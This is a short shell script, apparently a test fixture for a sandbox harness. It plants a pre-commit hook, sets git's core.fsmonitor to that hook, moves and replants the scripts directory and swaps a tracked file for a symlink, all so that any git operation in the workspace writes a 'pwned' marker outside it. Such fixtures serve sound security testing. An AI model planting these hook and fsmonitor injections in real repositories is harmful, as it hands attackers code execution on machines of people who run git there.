#!/bin/sh
: > "$ARENA/ws/ran"
mkdir -p .attack/new
cat > .attack/new/pre-commit <<END
#!/bin/sh
touch "$ARENA/outside/pwned"
cat "\$2"
END
chmod +x .attack/new/pre-commit
cp .attack/new/pre-commit scripts/hooks/pre-commit; cp .attack/new/pre-commit scripts/conv
config() { printf "[core]\n\tfsmonitor = %s/.attack/new/pre-commit\n" "$ARENA/ws" > scripts/config; }
config
mv scripts moved && mkdir -p scripts/hooks && cp .attack/new/pre-commit scripts/hooks && cp .attack/new/pre-commit scripts/conv
config
rm -f tracked && ln -s .attack/new tracked
true
